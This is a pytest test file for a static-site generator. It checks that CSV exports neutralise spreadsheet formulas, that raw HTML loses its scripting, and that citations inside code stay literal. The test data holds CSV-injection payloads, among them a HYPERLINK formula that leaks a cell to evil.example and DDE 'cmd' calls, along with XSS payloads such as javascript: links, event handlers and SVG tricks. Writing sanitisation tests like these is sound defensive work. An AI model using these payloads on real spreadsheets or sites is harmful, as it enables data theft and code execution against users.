"""Content that tries to become code in an export: spreadsheet formulas, scripting links in raw
HTML, citations written inside code."""

from __future__ import annotations

import csv
import io
import json

import pytest

from conftest import write_tree
from dateline.render.spreadsheets import csv_cell
from verdict import verdicts

# Cells a spreadsheet reads as a formula (OWASP "CSV injection"), with the full-width forms some
# spreadsheets fold to ASCII.
FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠SUM(A1)"]


def _formula_site(root):
    events = "".join(
        f"-- content/events/e{i}.md --\n---\ntitle: {json.dumps(f)}\ndate: 2019-10-{10 + i:02d}\n"
        f"place: {json.dumps(f)}\nactors: [{json.dumps(f)}]\ntags: [{json.dumps(f)}]\n"
        f"summary: {json.dumps(f)}\nsources: [s]\n---\nBody.\n"
        for i, f in enumerate(FORMULAS))
    return write_tree(root, events + "-- content/sources/s.yaml --\ntitle: S\n")


def test_csv_cells_never_start_a_formula(capsys, tmp_path):
    site = _formula_site(tmp_path / "site")
    check, build = verdicts(capsys, site)
    assert build.code == 0, build.stderr
    with open(site / "output/events.csv", encoding="utf-8", newline="") as f:
        raw = f.read()
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")), (column, cell)
    titles = sorted(r["title"] for r in rows)
    assert titles == sorted("'" + f for f in FORMULAS)  # kept whole, behind the quote
    assert [r["date"] for r in rows] == [f"2019-10-{10 + i:02d}" for i in range(len(FORMULAS))]


def test_csv_leaves_ordinary_cells_alone(capsys, tmp_path):
    site = write_tree(tmp_path / "site", """
        -- content/events/a.md --
        ---
        title: "A 3-2 vote; 'quoted' = fine"
        date: 2019-10-13
        place: Geneva
        ---
        Body.
        """)
    verdicts(capsys, site)
    rows = list(csv.DictReader(io.StringIO((site / "output/events.csv").read_text(), newline="")))
    assert rows[0]["title"] == "A 3-2 vote; 'quoted' = fine"
    assert rows[0]["place"] == "Geneva"


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1", "＝1", "＋1", "－1", "＠A1"])
def test_formula_cells_get_a_leading_quote(cell):
    assert csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "Geneva", "1+1", " =1", "'=1", "A-1", "2019-10-13"])
def test_other_cells_are_kept(cell):
    assert csv_cell(cell) == cell


# --- raw HTML with allow_html -------------------------------------------------------------

def test_allowed_raw_link_loses_a_scripting_target(capsys, tmp_path):
    site = write_tree(tmp_path / "site", """
        -- site.yaml --
        title: T
        base_url: /
        allow_html: true
        -- content/events/a.md --
        ---
        title: A
        date: 2019-10-13
        ---
        See <a href="javascript:alert(1)" onclick="alert(2)">this</a> and <b>bold</b>.
        """)
    check, build = verdicts(capsys, site)
    assert build.code == 0
    page = next((site / "output/events").glob("*/index.html")).read_text()
    assert "<a>this</a>" in page and "<b>bold</b>" in page
    assert "javascript" not in page and "onclick" not in page


@pytest.mark.parametrize("raw, safe", [
    ('<a href="javascript:alert(1)">x</a>', "<a>x</a>"),
    ("<a/href=javascript:alert(1)>x</a>", "<a>x</a>"),
    ('<a href="https://example.org/?a=1&amp;b=2" title=t>x</a>', '<a href="https://example.org/?a=1&amp;b=2" title="t">x</a>'),
    ('<img src="data:image/png;base64,AAAA" alt="a">', '<img alt="a">'),
    ('<form action="vbscript:x"><button formaction="javascript:x">b</button></form>', "<form><button>b</button></form>"),
    ('<svg><a xlink:href="javascript:x">s</a></svg>', "<svg><a>s</a></svg>"),
    ('<svg><set attributeName="href" to="javascript:alert(1)"/></svg>', '<svg><set attributename="href" /></svg>'),
    ('<img srcset="a.png 1x, javascript:x 2x" src="a.png">', '<img src="a.png">'),
    ('<iframe src="https://example.org/embed" srcdoc="<script>x</script>"></iframe>', '<iframe src="https://example.org/embed"></iframe>'),
    ("<p onclick=x ONMOUSEOVER=y title='a\"b'>p</p>", '<p title="a&quot;b">p</p>'),
    ("<script>alert(1)</script><base href=//evil.example/><meta http-equiv=refresh content=0>ok", "ok"),
    ('<style>a > b {}</style x><script>alert(1)</script></style>', "<style>a > b {}\\3c /style x>\\3c script>alert(1)\\3c /script></style>"),
    ("<!-- note --><!--[if IE]><script>x</script><![endif]--><i>x</i>", "<!-- note --><i>x</i>"),
    ("1 < 2 &amp; <b>3 > 2</b> &mdash; &#106;", "1 &lt; 2 &amp; <b>3 &gt; 2</b> &mdash; &#106;"),
])
def test_raw_html_is_written_again_without_scripting(raw, safe):
    from dateline.core.citations import is_safe_url
    from dateline.render.rawhtml import sanitise

    assert sanitise(raw, is_safe_url) == safe


# --- citations written inside code --------------------------------------------------------

CODE_BODY = """\
Write `[@s]` to cite a source[@a], or ``[@nowhere, p. 2]`` with a locator.

    [@s] in an indented block
    [@nowhere]

```
[@nowhere] in a fence
```

Then a real one[@b] and `[@a; @s]` again[@a].

- a list
- item

    continued, not code[@b]
"""


def _code_site(root):
    return write_tree(root, f"""
        -- content/sources/a.yaml --
        title: A
        -- content/sources/b.yaml --
        title: B
        -- content/sources/s.yaml --
        title: S
        -- content/events/e.md --
        ---
        title: E
        date: 2019-10-13
        summary: "Cite with `[@s]`[@a]."
        ---
        """ + CODE_BODY.replace("\n", "\n        "))


def test_citations_inside_code_stay_code(capsys, tmp_path):
    site = _code_site(tmp_path / "site")
    check, build = verdicts(capsys, site)
    assert build.code == 0, build.stderr
    event = json.loads((site / "output/events.json").read_text())["events"][0]
    assert [(n["number"], n["source"]) for n in event["notes"]] == [(1, "a"), (2, "b")]
    assert event["summary"] == "Cite with `[@s]`."
    page = next((site / "output/events").glob("*/index.html")).read_text()
    for literal in ("<code>[@s]</code>", "<code>[@nowhere, p. 2]</code>", "<code>[@a; @s]</code>",
                    "[@s] in an indented block\n[@nowhere]", "[@nowhere] in a fence"):
        assert literal in page
    assert page.count('class="cite-link"') == 4  # a, b, a (second time), b in the list


def test_citation_finder_skips_code():
    from dateline.core.citations import find_citations, strip_citations

    found = find_citations(CODE_BODY, 10)
    assert [(sid, line) for sid, _loc, line in found] == [("a", 10), ("b", 19), ("a", 19), ("b", 24)]
    assert strip_citations("`[@s]` and [@a]") == "`[@s]` and"
    assert find_citations(r"escaped \[@x] or not \\[@y]", 1) == [("y", "", 1)]
    assert strip_citations(r"escaped \[@x]") == r"escaped \[@x]"
